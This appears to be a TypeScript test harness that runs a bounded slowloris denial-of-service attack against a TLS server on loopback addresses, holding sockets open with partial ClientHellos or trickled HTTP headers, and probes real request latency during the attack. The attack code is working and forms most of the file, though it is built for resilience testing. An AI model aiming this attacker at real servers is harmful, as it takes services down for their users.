// A bounded slow-client (slowloris) attacker and a prober of real requests, both bound to chosen loopback source
// addresses. The attacker keeps `connections` sockets open to a TLS port, each either stuck in the TLS handshake (a
// partial ClientHello) or stuck in the HTTP header (handshake done, one header byte every few seconds), and reopens
// each one when the server drops it, until `stop()`. Everything is bounded: the socket count, the reconnect pacing,
// the run time (the caller's deadline).
import { connect as tcpConnect, type Socket } from "node:net";
import { connect as tlsConnect, type ConnectionOptions } from "node:tls";
import { request } from "node:https";
import { fork, type ChildProcess } from "node:child_process";
import { fileURLToPath } from "node:url";

export interface SlowAttack {
  /** Sockets open right now (connected and not yet closed by either side). */
  open(): number;
  /** Highest `open()` seen so far. */
  peak(): number;
  /** Connections attempted / refused (reset or error before connecting) / dropped by the server after connecting. */
  stats(): { attempts: number; refused: number; dropped: number };
  stop(): void;
}

/** A TLS record header announcing a 512-byte ClientHello, then only its first bytes: the handshake never completes. */
const PARTIAL_CLIENT_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);

/** tls.connect passes localAddress on to net.connect (node's tls.connect), though its type omits it. */
function tlsFrom(o: { host: string; port: number; servername: string; localAddress: string }): ConnectionOptions {
  const options = { host: o.host, port: o.port, localAddress: o.localAddress, servername: o.servername, rejectUnauthorized: false };
  return options;
}

export function startSlowAttack(o: { host: string; port: number; servername: string; localAddress: string; connections: number; trickleMs?: number }): SlowAttack {
  let stopped = false, open = 0, peak = 0, attempts = 0, refused = 0, dropped = 0;
  const sockets = new Set<Socket>();
  const trickleMs = o.trickleMs ?? 2000;

  const slot = (i: number) => {
    if (stopped) return;
    attempts++;
    let connected = false;
    const handshake = i % 2 === 0; // half stuck in the TLS handshake, half in the HTTP header
    const onConnect = () => {
      connected = true;
      open++;
      peak = Math.max(peak, open);
      if (handshake) { s.write(PARTIAL_CLIENT_HELLO); return; }
      s.write(`POST /mcp HTTP/1.1\r\nHost: ${o.servername}\r\nX-Slow: `);
      const t = setInterval(() => { if (!s.destroyed) s.write("a"); }, trickleMs);
      s.once("close", () => clearInterval(t));
    };
    const s: Socket = handshake
      ? tcpConnect({ host: o.host, port: o.port, localAddress: o.localAddress }, onConnect)
      : tlsConnect(tlsFrom(o), onConnect);
    sockets.add(s);
    s.on("error", () => {});
    s.on("data", () => {});
    s.once("close", () => {
      sockets.delete(s);
      if (connected) { open--; dropped++; } else refused++;
      // Reopen at once after a drop; after a refusal wait, so a refusing server is not spun against.
      if (!stopped) setTimeout(() => slot(i), connected ? 10 : 500);
    });
  };
  for (let i = 0; i < o.connections; i++) setTimeout(() => slot(i), i); // ramp up over `connections` ms
  return {
    open: () => open, peak: () => peak, stats: () => ({ attempts, refused, dropped }),
    stop() { stopped = true; for (const s of sockets) s.destroy(); },
  };
}

type AttackOptions = Parameters<typeof startSlowAttack>[0];
type AttackStats = ReturnType<SlowAttack["stats"]> & { peak: number; open: number };

/**
 * The attacker in a child process of its own, so its thousands of reconnects do not share an event loop with the
 * prober whose latency is measured. `stats()` asks for its counts so far (bounded: 10 s); `stop()` ends it
 * (bounded: killed after 10 s) and returns its counts.
 */
export function forkSlowAttack(o: AttackOptions): { stats(): Promise<AttackStats>; stop(): Promise<AttackStats> } {
  const child: ChildProcess = fork(fileURLToPath(import.meta.url), [JSON.stringify(o)], { stdio: ["ignore", "inherit", "inherit", "ipc"] });
  const ask = (what: "stats" | "stop") => new Promise<AttackStats>((resolve, reject) => {
    const kill = setTimeout(() => { child.kill("SIGKILL"); reject(new Error(`slow-client attacker did not answer "${what}" within 10 s`)); }, 10_000);
    child.once("message", (m) => { clearTimeout(kill); if (what === "stop") child.disconnect(); resolve(m as AttackStats); });
    child.send(what);
  });
  return { stats: () => ask("stats"), stop: () => ask("stop") };
}

if (import.meta.main) {
  const attack = startSlowAttack(JSON.parse(process.argv[2]!) as AttackOptions);
  process.on("message", (what) => {
    const stats = { ...attack.stats(), peak: attack.peak(), open: attack.open() };
    if (what === "stats") { process.send!(stats); return; }
    attack.stop();
    process.send!(stats, () => process.exit(0));
  });
}

export interface ProbeResult { ok: boolean; ms: number; detail: string }

/** One real request on a new TLS connection from `localAddress`: POST `path`, ok on the `expect`ed status within `timeoutMs`. */
export function probe(o: { host: string; port: number; servername: string; localAddress: string; path: string; body: string; headers?: Record<string, string>; expect: number; timeoutMs: number }): Promise<ProbeResult> {
  const t0 = performance.now();
  return new Promise((resolve) => {
    const done = (ok: boolean, detail: string) => resolve({ ok, ms: performance.now() - t0, detail });
    const req = request({
      host: o.host, port: o.port, path: o.path, method: "POST", localAddress: o.localAddress, servername: o.servername,
      rejectUnauthorized: false, agent: false, timeout: o.timeoutMs,
      headers: { host: o.servername, "content-type": "application/json", accept: "application/json, text/event-stream", ...o.headers },
    }, (res) => {
      res.resume();
      res.once("end", () => done(res.statusCode === o.expect, `status ${res.statusCode}`));
      res.once("error", (e) => done(false, e.message));
    });
    req.once("timeout", () => req.destroy(new Error(`no answer within ${o.timeoutMs} ms`)));
    req.once("error", (e) => done(false, e.message));
    req.end(o.body);
  });
}
